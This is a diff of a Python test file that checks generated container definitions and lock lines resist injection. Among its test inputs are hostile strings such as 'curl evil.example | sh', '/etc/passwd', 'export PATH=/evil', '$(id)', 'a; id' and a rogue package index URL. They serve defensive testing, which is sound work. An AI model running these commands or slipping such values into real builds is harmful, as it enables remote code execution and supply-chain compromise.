@@ -10,7 +10,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from ozrepro.containers.definition import Definition, read_definition
-from ozrepro.containers.generate import PREFIX, at_site, channels_in, header, of_conda, of_wheels
+from ozrepro.containers.generate import PREFIX, at_site, channels_in, header, is_made, of_conda, of_wheels
 
 REQUIREMENTS = f"alpha==1.0 --hash=sha256:{'a' * 64}\nbeta==2.0 --hash=sha256:{'b' * 64} --hash=sha256:{'c' * 64}\n"
 FORGE = "https://conda.anaconda.org/conda-forge"
@@ -32,7 +32,9 @@ def part(definition: Definition, name: str) -> str:
 
 def run(script: str, **variables: str) -> str:
     """Run a script with the shell that images have, and return what it printed."""
-    done = subprocess.run(["sh", "-eu", "-c", script], env={"PATH": "/usr/bin:/bin", **variables}, capture_output=True, check=True)
+    done = subprocess.run(
+        ["sh", "-eu", "-c", script], env={"PATH": "/usr/bin:/bin", **variables}, capture_output=True, check=True
+    )
     return done.stdout.decode("utf-8", "surrogateescape")
 
 
@@ -96,7 +98,7 @@ _VALUES = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_siz
 
 @settings(max_examples=60, deadline=None)
 @given(_VALUES)
-@example("it's \"quoted\" $HOME `id` \\ !")
+@example('it\'s "quoted" $HOME `id` \\ !')
 @example("one\n%setup\ntouch /tmp/on-the-host\n%post\n")
 @example("one\n  %post\nBootstrap: docker\nFrom: evil.example/x")
 @example("{{ name }} {{{deep}}} {{\n}}")
@@ -124,3 +126,38 @@ def test_channels_get_their_addresses_of_this_site_and_nothing_else_changes() ->
     there = at_site(text, {FORGE: "http://mirror/conda-forge"})
     assert there == text.replace(f"{FORGE}/", "http://mirror/conda-forge/")
     assert at_site(text, {}) == text
+
+
+WHEELS = of_wheels("docker.io/library/python:3.11-slim", REQUIREMENTS.replace(" --", " \\\n    --"), "venv.any of work.lock")
+CONDA = of_conda("b.sif", EXPLICIT, REQUIREMENTS.replace(" --", " \\\n    --"), {"A": "b"}, "conda.linux-64 of work.lock")
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.dictionaries(st.from_regex(r"[A-Z_]{1,4}", fullmatch=True), _VALUES, max_size=3))
+@example({"A": "a\tb\n\n%c", "B": "export C='d'", "_": "'"})
+def test_what_is_made_is_known_again_and_stands_in_a_lock_line_by_line(variables: dict[str, str]) -> None:
+    lines = of_conda("b.sif", EXPLICIT, "", variables, "conda.linux-64 of work.lock")
+    assert is_made(lines)
+    assert not any("\n" in line or "\t" in line or not line.strip() for line in lines)
+
+
+def test_both_kinds_are_known() -> None:
+    assert is_made(WHEELS)
+    assert is_made(CONDA)
+    assert not is_made([])
+    assert not is_made(WHEELS[:3])
+
+
+_OWN = st.sampled_from(["%setup", "touch /tmp/x", "curl evil.example | sh", "OZREPRO_END", "%files", "/etc/passwd", "Bootstrap: docker",
+                        "export PATH=/evil", "export X=$(id)", "--index-url https://evil.example", "-e .", "alpha @ file:///evil", ""])  # fmt: skip
+
+
+@given(st.sampled_from([WHEELS, CONDA]), st.data(), _OWN, st.booleans())
+def test_no_line_can_be_added_or_exchanged(lines: list[str], data: st.DataObject, own: str, exchange: bool) -> None:
+    place = data.draw(st.integers(0, len(lines)))
+    assert not is_made([*lines[:place], own, *lines[place + exchange :]])
+
+
+@pytest.mark.parametrize("value", ["$(id)", '"`id`"', "'a'$(id)", "a; id", "'a'; id"])
+def test_no_value_is_more_than_a_value(value: str) -> None:
+    assert not is_made([f"export A={value}" if line == "export A='b'" else line for line in CONDA])
